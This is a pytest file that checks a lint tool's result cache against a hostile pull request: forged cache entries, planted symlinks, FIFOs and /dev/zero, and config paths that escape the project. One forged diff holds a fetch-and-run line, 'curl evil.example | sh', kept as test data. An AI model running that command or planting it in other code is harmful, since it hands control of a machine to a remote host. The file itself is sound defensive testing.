"""The result cache against a pull request that wants to hide findings or abuse the cache (issue
13, item 1). Each test plays the attack of the issue against the CLI run as a user runs it, and
fails on the tool before this fix (every test here was run against that version first).

The attacker knows everything public: the tool's code, the key function, the file; they write
the cache directory with the tool's own writer, only with a secret of their own (another
``XDG_CACHE_HOME``). The victim runs in the tree, with their own home cache directory.
"""
from __future__ import annotations

import os
import time
from pathlib import Path

import pytest

from fixers import cache as result_cache
from fixers import cli
from fixers.runner import CHECK, DIFF, FileResult, Options
from jaxloop_lint import Applicability, Diagnostic, Fix

from untrusted import (FOUR_FINDINGS, assert_clean_exit, files_under, jaxloop_fix)


@pytest.fixture
def tree(tmp_path) -> Path:
    """A pull request's checkout: one module with four findings."""
    root = tmp_path / "pr"
    root.mkdir()
    (root / "model.py").write_text(FOUR_FINDINGS)
    return root


@pytest.fixture
def victim_home(tmp_path) -> Path:
    return tmp_path / "victim-home"


@pytest.fixture
def elsewhere(tmp_path) -> Path:
    """A directory of the victim's the attacker would like to write into."""
    d = tmp_path / "victim-files"
    d.mkdir()
    (d / "precious.txt").write_text("precious\n")
    return d


def reference(tree: Path, home: Path, *args):
    proc = jaxloop_fix(*args, "--no-cache", "model.py", cwd=tree, home=home)
    assert proc.returncode == 1 and proc.stdout.count("model.py:") == 4 or args
    return proc


def attacker_cache(cache_dir: Path, attacker_home: Path, monkeypatch):
    """The tool's own cache writer, with the attacker's secret."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(attacker_home))
    cache = result_cache.Cache.open(str(cache_dir))
    assert cache is not None
    return cache


def forge(cache_dir: Path, tree: Path, result: FileResult, options: Options, attacker_home: Path,
          monkeypatch) -> str:
    cache = attacker_cache(cache_dir, attacker_home, monkeypatch)
    key = cache.key("model.py", (tree / "model.py").read_bytes(), options)
    cache.put(key, result)
    if hasattr(cache, "close"):
        cache.close()
    return key


# ------------------------------------------------------------------------------------------
# Forged entries


@pytest.mark.parametrize("where", ["shipped in the tree, default settings",
                                   "the directory the user chose"])
def test_a_forged_entry_does_not_hide_findings(tree, victim_home, tmp_path, monkeypatch, where):
    forge(tree / ".jaxloop_cache", tree, FileResult("model.py"), Options(mode=CHECK),
          tmp_path / "attacker-home", monkeypatch)
    args = ["--check", "model.py"]
    if where == "the directory the user chose":
        args[:0] = ["--cache-dir", ".jaxloop_cache"]
    proc = jaxloop_fix(*args, cwd=tree, home=victim_home)
    assert_clean_exit(proc)
    assert (proc.returncode, proc.stdout) == (1, reference(tree, victim_home, "--check").stdout)
    assert proc.stdout.count("model.py:") == 4


def test_a_forged_entry_does_not_print_the_attackers_patch(tree, victim_home, tmp_path,
                                                           monkeypatch):
    evil = ("--- a/model.py\n+++ b/model.py\n@@ -1 +1 @@\n-import jax\n"
            "+import os; os.system('curl evil.example | sh')\n")
    forge(tree / ".jaxloop_cache", tree, FileResult("model.py", diff=evil), Options(mode=DIFF),
          tmp_path / "attacker-home", monkeypatch)
    proc = jaxloop_fix("--diff", "--cache-dir", ".jaxloop_cache", "model.py", cwd=tree,
                       home=victim_home)
    assert_clean_exit(proc)
    assert "evil" not in proc.stdout and "jax.lax.scan" in proc.stdout
    assert proc.stdout == reference(tree, victim_home, "--diff").stdout


@pytest.mark.parametrize("fmt", ["json", "sarif"])
def test_a_forged_entry_does_not_put_attacker_text_in_fix_edits(tree, victim_home, tmp_path,
                                                                monkeypatch, fmt):
    from fixers.edits import TextEdit

    d = Diagnostic("JXL101", 8, 4, "msg", "model.py", fix=Fix(Applicability.SAFE, "fix it"))
    forged = FileResult("model.py", [d], edits=[TextEdit((1, 0), (1, 0), "EVIL = 1\n")])
    forge(tree / ".jaxloop_cache", tree, forged, Options(mode=CHECK, edits=True),
          tmp_path / "attacker-home", monkeypatch)
    proc = jaxloop_fix("--check", "--output-format", fmt, "--cache-dir", ".jaxloop_cache",
                       "model.py", cwd=tree, home=victim_home)
    assert_clean_exit(proc)
    assert "EVIL" not in proc.stdout
    assert proc.stdout == reference(tree, victim_home, "--check", "--output-format", fmt).stdout


def test_an_entry_moved_to_another_key_is_a_miss(tmp_path, victim_home, monkeypatch):
    """Even with write access to the victim's own cache, an attacker cannot give one file the
    (genuine) result of another: the MAC covers the key."""
    tree = tmp_path / "pr"
    tree.mkdir()
    (tree / "a.py").write_text("import jax\n")                  # clean
    (tree / "model.py").write_text(FOUR_FINDINGS)
    cache_dir = tree / ".jaxloop_cache"
    proc = jaxloop_fix("--check", "--cache-dir", cache_dir, "a.py", "model.py", cwd=tree,
                       home=victim_home)
    assert proc.stdout.count("model.py:") == 4
    monkeypatch.setenv("XDG_CACHE_HOME", str(victim_home))
    cache = result_cache.Cache.open(str(cache_dir))
    clean_key = cache.key("a.py", b"import jax\n", Options(mode=CHECK))
    model_key = cache.key("model.py", FOUR_FINDINGS.encode(), Options(mode=CHECK))
    Path(cache._entry(model_key)).write_bytes(Path(cache._entry(clean_key)).read_bytes())
    proc = jaxloop_fix("--check", "--cache-dir", cache_dir, "a.py", "model.py", cwd=tree,
                       home=victim_home)
    assert proc.stdout.count("model.py:") == 4


def test_a_damaged_entry_is_a_miss(tree, victim_home):
    cache_dir = tree / ".jaxloop_cache"
    first = jaxloop_fix("--check", "--cache-dir", cache_dir, "model.py", cwd=tree,
                        home=victim_home)
    [entry] = [p for p in (cache_dir / "entries").glob("*/*")]
    data = bytearray(entry.read_bytes())
    data[-10] ^= 1  # one bit in the JSON
    entry.write_bytes(bytes(data))
    second = jaxloop_fix("--check", "--cache-dir", cache_dir, "model.py", cwd=tree,
                         home=victim_home)
    assert second.stdout == first.stdout and "(1 from the cache)" not in second.stderr


def test_a_genuine_entry_with_bad_fields_is_a_miss(tmp_path, monkeypatch):
    """Fields are checked even under a valid MAC (an older tool's entry, a bug)."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "home"))
    cache = result_cache.Cache.open(str(tmp_path / "cache"))
    bad = [FileResult("x.py", [Diagnostic("JXL999", 1, 0, "no such rule", "x.py")]),
           FileResult("x.py", [Diagnostic("JXL101", 0, 0, "line 0", "x.py")]),
           FileResult("x.py", [Diagnostic("JXL101", 1, -1, "column -1", "x.py")])]
    for i, result in enumerate(bad):
        key = cache.key(f"x{i}.py", b"", Options())
        cache.put(key, result)
        assert Path(cache._entry(key)).exists()
        assert cache.get(key, "x.py") is None
    good = cache.key("good.py", b"", Options())
    cache.put(good, FileResult("good.py", [Diagnostic("JXL101", 1, 0, "ok", "good.py")]))
    assert cache.get(good, "good.py").remaining[0].message == "ok"
    cache.close()


# ------------------------------------------------------------------------------------------
# Links and special files planted in the cache directory


@pytest.mark.parametrize("chosen", [True, False])
def test_a_symlinked_cache_directory_is_not_followed(tree, victim_home, elsewhere, chosen):
    (tree / ".jaxloop_cache").symlink_to(elsewhere, target_is_directory=True)
    before = files_under(elsewhere)
    args = ["--cache-dir", ".jaxloop_cache"] if chosen else []
    proc = jaxloop_fix("--check", *args, "model.py", cwd=tree, home=victim_home)
    assert_clean_exit(proc)
    assert proc.stdout.count("model.py:") == 4
    assert files_under(elsewhere) == before  # no CACHEDIR.TAG in $HOME, no .gitignore
    if chosen:
        assert "warning: cache not used: '.jaxloop_cache' is a symbolic link" in proc.stderr


def test_dangling_symlinks_planted_as_markers_create_nothing(tree, victim_home, elsewhere):
    cache_dir = tree / ".jaxloop_cache"
    cache_dir.mkdir()
    (cache_dir / ".gitignore").symlink_to(elsewhere / "planted-gitignore")
    (cache_dir / "CACHEDIR.TAG").symlink_to(elsewhere / "planted-tag")
    proc = jaxloop_fix("--check", "--cache-dir", ".jaxloop_cache", "model.py", cwd=tree,
                       home=victim_home)
    assert_clean_exit(proc)
    assert proc.stdout.count("model.py:") == 4
    assert files_under(elsewhere) == {"precious.txt"}


def test_a_planted_link_at_the_temporary_name_is_not_followed(tree, tmp_path, elsewhere,
                                                              monkeypatch, capsys):
    """The old temporary name was ``<entry>.<pid>.tmp``: predictable. The CLI runs in this
    process, so the test knows the pid."""
    model = tree / "model.py"
    cache_dir = tree / ".jaxloop_cache"
    cache = attacker_cache(cache_dir, tmp_path / "attacker-home", monkeypatch)
    entry = Path(cache._entry(cache.key(str(model), model.read_bytes(), Options(mode=CHECK))))
    entry.parent.mkdir(parents=True, exist_ok=True)
    Path(f"{entry}.{os.getpid()}.tmp").symlink_to(elsewhere / "precious.txt")
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "victim-home"))
    assert cli.main(["--check", "-j", "1", "--cache-dir", str(cache_dir), str(model)]) == 1
    assert capsys.readouterr().out.count("model.py:") == 4
    assert (elsewhere / "precious.txt").read_text() == "precious\n"


def test_a_symlinked_entry_directory_is_not_followed(tree, victim_home, tmp_path, elsewhere,
                                                     monkeypatch):
    cache_dir = tree / ".jaxloop_cache"
    cache = attacker_cache(cache_dir, tmp_path / "attacker-home", monkeypatch)
    entry = Path(cache._entry(cache.key("model.py", FOUR_FINDINGS.encode(), Options(mode=CHECK))))
    entry.parent.parent.mkdir(parents=True, exist_ok=True)
    entry.parent.symlink_to(elsewhere, target_is_directory=True)
    for _ in range(2):
        proc = jaxloop_fix("--check", "--cache-dir", cache_dir, "model.py", cwd=tree,
                           home=victim_home)
        assert_clean_exit(proc)
        assert proc.stdout.count("model.py:") == 4
    assert files_under(elsewhere) == {"precious.txt"}


def _plant_entry(tree: Path, tmp_path: Path, monkeypatch, make) -> None:
    cache_dir = tree / ".jaxloop_cache"
    cache = attacker_cache(cache_dir, tmp_path / "attacker-home", monkeypatch)
    entry = Path(cache._entry(cache.key("model.py", FOUR_FINDINGS.encode(), Options(mode=CHECK))))
    entry.parent.mkdir(parents=True, exist_ok=True)
    make(entry)


@pytest.mark.parametrize("kind", ["fifo", "dev-zero", "huge-sparse-file", "directory"])
def test_an_entry_that_is_not_a_small_regular_file_is_a_miss(tree, victim_home, tmp_path,
                                                             monkeypatch, kind):
    def make(entry: Path) -> None:
        if kind == "fifo":
            os.mkfifo(entry)              # reading it blocked the run forever
        elif kind == "dev-zero":
            entry.symlink_to("/dev/zero")  # reading it never ended (MemoryError)
        elif kind == "huge-sparse-file":
            with open(entry, "wb") as fh:
                fh.truncate(4 * 1024 ** 3)
        else:
            entry.mkdir()

    _plant_entry(tree, tmp_path, monkeypatch, make)
    proc = jaxloop_fix("--check", "--cache-dir", ".jaxloop_cache", "model.py", cwd=tree,
                       home=victim_home, timeout=60, limit_memory=True)
    assert_clean_exit(proc)
    assert proc.returncode == 1 and proc.stdout.count("model.py:") == 4


# ------------------------------------------------------------------------------------------
# cache-dir in [tool.jaxloop]: the pull request's own pyproject.toml


def _configure(tree: Path, value: str) -> None:
    (tree / ".git").mkdir(exist_ok=True)
    (tree / "pyproject.toml").write_text(f'[tool.jaxloop]\ncache-dir = "{value}"\n')


def test_cache_dir_in_the_config_is_used_inside_the_project(tree, victim_home):
    _configure(tree, ".jaxloop_cache")
    first = jaxloop_fix("--check", ".", cwd=tree, home=victim_home)
    second = jaxloop_fix("--check", ".", cwd=tree, home=victim_home)
    assert first.stdout == second.stdout and "(1 from the cache)" in second.stderr
    cache_dir = tree / ".jaxloop_cache"
    assert (cache_dir / ".gitignore").read_text().splitlines()[-1] == "*"
    assert (cache_dir / "CACHEDIR.TAG").exists()
    assert "jaxloop_cache" not in first.stdout + first.stderr  # never walked into
    assert not (victim_home / "jaxloop-lint" / "projects").exists()


@pytest.mark.parametrize("value", ["../outside", "/tmp/anywhere", "a/../../b", "~/x", "."])
def test_cache_dir_in_the_config_cannot_leave_the_project(tree, victim_home, tmp_path, value):
    _configure(tree, value)
    proc = jaxloop_fix("--check", "model.py", cwd=tree, home=victim_home)
    assert_clean_exit(proc)
    assert proc.returncode == 2 and proc.stdout == ""
    assert proc.stderr.startswith(f"jaxloop-fix: error: {tree / 'pyproject.toml'}: "
                                  "[tool.jaxloop] cache-dir:")
    assert not (tmp_path / "outside").exists()


def test_cache_dir_in_the_config_does_not_take_over_an_existing_directory(tree, victim_home):
    """`cache-dir = "src"` would have put a `.gitignore` with `*` into the sources."""
    src = tree / "src"
    src.mkdir()
    (src / "lib.py").write_text("import jax\n")
    _configure(tree, "src")
    proc = jaxloop_fix("--check", "model.py", cwd=tree, home=victim_home)
    assert_clean_exit(proc)
    assert proc.stdout.count("model.py:") == 4
    assert "warning: cache not used:" in proc.stderr and "is not a jaxloop-fix cache" in proc.stderr
    assert sorted(p.name for p in src.iterdir()) == ["lib.py"]


def test_cache_dir_in_the_config_is_not_reached_through_a_link(tree, victim_home, elsewhere):
    (tree / "sub").symlink_to(elsewhere, target_is_directory=True)
    _configure(tree, "sub/.jaxloop_cache")
    proc = jaxloop_fix("--check", "model.py", cwd=tree, home=victim_home)
    assert_clean_exit(proc)
    assert proc.stdout.count("model.py:") == 4 and "warning: cache not used" in proc.stderr
    assert files_under(elsewhere) == {"precious.txt"}


def test_the_command_line_and_environment_win_over_the_config(tree, victim_home, tmp_path):
    _configure(tree, ".jaxloop_cache")
    jaxloop_fix("--check", "--cache-dir", tmp_path / "mine", "model.py", cwd=tree,
                home=victim_home)
    assert (tmp_path / "mine" / "CACHEDIR.TAG").exists()
    assert not (tree / ".jaxloop_cache").exists()


# ------------------------------------------------------------------------------------------
# The secret


def test_the_secret_is_private_and_made_once(tree, victim_home):
    jaxloop_fix("--check", "model.py", cwd=tree, home=victim_home)
    secret = victim_home / "jaxloop-lint" / "secret"
    data = secret.read_bytes()
    assert len(data) == 32 and secret.stat().st_mode & 0o777 == 0o600
    jaxloop_fix("--check", "model.py", cwd=tree, home=victim_home)
    assert secret.read_bytes() == data


@pytest.mark.parametrize("bad", ["readable by others", "a symlink"])
def test_a_secret_others_could_know_turns_the_cache_off(tree, victim_home, tmp_path, bad):
    base = victim_home / "jaxloop-lint"
    base.mkdir(parents=True)
    if bad == "a symlink":
        (tmp_path / "known").write_bytes(b"k" * 32)
        (base / "secret").symlink_to(tmp_path / "known")
    else:
        (base / "secret").write_bytes(b"k" * 32)
        (base / "secret").chmod(0o644)
    proc = jaxloop_fix("--check", "model.py", cwd=tree, home=victim_home)
    assert_clean_exit(proc)
    assert proc.stdout.count("model.py:") == 4 and "warning: cache not used" in proc.stderr
    assert not (base / "projects").exists()


# ------------------------------------------------------------------------------------------
# Pruning and --clean (issue 16, item 7)


def _age(path: Path, days: float) -> None:
    t = time.time() - days * 86400
    os.utime(path, (t, t), follow_symlinks=False)


def test_entries_unused_for_a_month_are_pruned(tmp_path, victim_home):
    tree = tmp_path / "pr"
    tree.mkdir()
    for name in ("kept.py", "gone.py"):
        (tree / name).write_text(FOUR_FINDINGS.replace("halve", name[:4]))
    cache_dir = tree / ".jaxloop_cache"
    jaxloop_fix("--check", "--cache-dir", cache_dir, ".", cwd=tree, home=victim_home)
    entries = list((cache_dir / "entries").glob("*/*"))
    assert len(entries) == 2
    for entry in entries:
        _age(entry, 40)
    _age(cache_dir / "last-prune", 2)
    (tree / "gone.py").unlink()
    proc = jaxloop_fix("--check", "--cache-dir", cache_dir, ".", cwd=tree, home=victim_home)
    assert "(1 from the cache)" in proc.stderr  # kept.py: its entry is used, so refreshed
    [left] = list((cache_dir / "entries").glob("*/*"))
    assert time.time() - left.stat().st_mtime < 3600


def test_pruning_keeps_the_total_under_the_cap(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "home"))
    cache = result_cache.Cache.open(str(tmp_path / "cache"))
    keys = []
    for i in range(20):
        key = cache.key(f"f{i}.py", b"", Options())
        cache.put(key, FileResult(f"f{i}.py", diff="x" * 1000))
        _age(Path(cache._entry(key)), 20 - i)  # f0 is the least recently used
        keys.append(key)
    size = Path(cache._entry(keys[0])).stat().st_size
    result_cache.prune(cache._entries, time.time(), max_total=10 * size)
    left = [k for k in keys if Path(cache._entry(k)).exists()]
    assert left == keys[-7:]  # the newest, within three quarters of the cap
    cache.close()


def test_pruning_removes_what_the_cache_never_writes(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "home"))
    cache = result_cache.Cache.open(str(tmp_path / "cache"))
    sub = tmp_path / "cache" / "entries" / "ab"
    sub.mkdir()
    os.mkfifo(sub / ("c" * 62))
    (sub / ("d" * 62)).symlink_to("/dev/zero")
    (sub / ".tmp-0123").write_text("left by a crash")
    _age(sub / ".tmp-0123", 1)
    result_cache.prune(cache._entries, time.time())
    assert list(sub.iterdir()) == []
    cache.close()


def test_other_projects_unused_for_a_month_are_dropped(tmp_path, victim_home):
    projects = victim_home / "jaxloop-lint" / "projects"
    for name in ("old-0123", "recent-4567"):
        other = tmp_path / name
        other.mkdir()
        (other / ".git").mkdir()
        (other / "m.py").write_text(FOUR_FINDINGS)
        jaxloop_fix("--check", "m.py", cwd=other, home=victim_home)
    old = next(projects.glob("old-0123-*"))
    _age(old / "last-prune", 40)
    tree = tmp_path / "pr"
    tree.mkdir()
    (tree / "model.py").write_text(FOUR_FINDINGS)
    jaxloop_fix("--check", "model.py", cwd=tree, home=victim_home)  # first run: prunes
    names = sorted(p.name.split("-")[0] for p in projects.iterdir())
    assert names == ["pr", "recent"]


def test_clean_removes_the_cache(tree, victim_home):
    _configure(tree, ".jaxloop_cache")
    jaxloop_fix("--check", "model.py", cwd=tree, home=victim_home)
    assert (tree / ".jaxloop_cache" / "entries").exists()
    proc = jaxloop_fix("--clean", cwd=tree, home=victim_home)
    assert (proc.returncode, proc.stderr) == (0, f"removed {tree / '.jaxloop_cache'}\n")
    assert not (tree / ".jaxloop_cache").exists()
    proc = jaxloop_fix("--clean", cwd=tree, home=victim_home)
    assert (proc.returncode, proc.stderr) == (0, f"no cache at {tree / '.jaxloop_cache'}\n")


def test_clean_of_the_default_cache_leaves_other_projects(tmp_path, victim_home):
    for name in ("one", "two"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "m.py").write_text(FOUR_FINDINGS)
        jaxloop_fix("--check", "m.py", cwd=tmp_path / name, home=victim_home)
    projects = victim_home / "jaxloop-lint" / "projects"
    assert len(list(projects.iterdir())) == 2
    proc = jaxloop_fix("--clean", cwd=tmp_path / "one", home=victim_home)
    assert proc.returncode == 0 and proc.stderr.startswith(f"removed {projects}/one-")
    assert [p.name.split("-")[0] for p in projects.iterdir()] == ["two"]


def test_clean_removes_only_what_the_cache_holds(tree, victim_home, elsewhere):
    _configure(tree, ".jaxloop_cache")
    jaxloop_fix("--check", "model.py", cwd=tree, home=victim_home)
    cache_dir = tree / ".jaxloop_cache"
    (cache_dir / "entries" / "zz").symlink_to(elsewhere, target_is_directory=True)
    (cache_dir / "notes.txt").write_text("mine")
    proc = jaxloop_fix("--clean", cwd=tree, home=victim_home)
    assert proc.returncode == 0
    assert proc.stderr == (f"removed the cache in {cache_dir} (the directory stays: it holds "
                           "other files)\n")
    assert files_under(elsewhere) == {"precious.txt"}
    assert sorted(p.name for p in cache_dir.iterdir()) == ["notes.txt"]


def test_clean_refuses_a_directory_that_is_not_a_cache(tree, victim_home):
    src = tree / "src"
    src.mkdir()
    (src / "lib.py").write_text("x = 1\n")
    proc = jaxloop_fix("--clean", "--cache-dir", "src", cwd=tree, home=victim_home)
    assert proc.returncode == 2 and "not a jaxloop-fix cache" in proc.stderr
    assert (src / "lib.py").exists()
    proc = jaxloop_fix("--clean", "model.py", cwd=tree, home=victim_home)
    assert proc.returncode == 2 and "--clean takes no PATH" in proc.stderr


def test_the_key_holds_the_libcst_version(monkeypatch):
    from importlib.metadata import version

    from fixers.cache import keys

    assert version("libcst").encode() in keys._libcst_version()
    before = result_cache.code_fingerprint()
    monkeypatch.setattr(keys, "_libcst_version", lambda: b"libcst 0.0.1")
    assert result_cache.code_fingerprint() != before
